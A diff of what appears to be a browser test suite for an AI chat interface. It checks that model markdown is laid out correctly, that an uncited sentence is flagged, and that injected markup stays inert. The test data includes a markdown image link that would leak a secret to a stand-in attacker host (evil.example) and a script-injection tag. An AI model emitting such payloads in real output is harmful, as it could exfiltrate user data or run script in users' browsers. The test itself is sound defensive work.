@@ -639,7 +639,10 @@ def test_model_and_abstract_text_cannot_inject_markup(browser: Browser) -> None:
         app.close()
 
 
-LAID_OUT = "Zebras stripe for **two reasons** [1]:\n\n1. *heat*, which `stripes` shed [1]\n2. flies [1]\n\n" + ATTACK
+LAID_OUT = (
+    "Zebras stripe for **two reasons** [1]:\n\n1. *heat*, which `stripes` shed [1]\n2. flies [1]\n\n"
+    "Horses would stripe too in Africa. " + ATTACK
+)
 
 
 class ModelAssistant(ScriptedAssistant):
@@ -663,6 +666,10 @@ def test_a_models_markdown_is_laid_out_on_the_page_and_still_cannot_inject(brows
         expect(bubble.locator("ol > li")).to_have_count(2)
         expect(bubble.locator("ol > li").first.locator("em")).to_have_text("heat")
         expect(bubble.locator("ol code")).to_have_text("stripes")
+        uncited = bubble.locator(".aa-uncited")  # the one sentence citing nothing is marked, and says why on hover
+        expect(uncited).to_have_count(1)
+        expect(uncited).to_have_text("Horses would stripe too in Africa.")
+        expect(uncited).to_have_attribute("title", re.compile("cites no source"))
         expect(bubble).to_contain_text("![leak](https://evil.example/pixel.png?q=SECRET)")  # shown as text
         expect(bubble).to_contain_text("<script>document.title='owned'</script>")
         shot(page, "model-markdown.png")
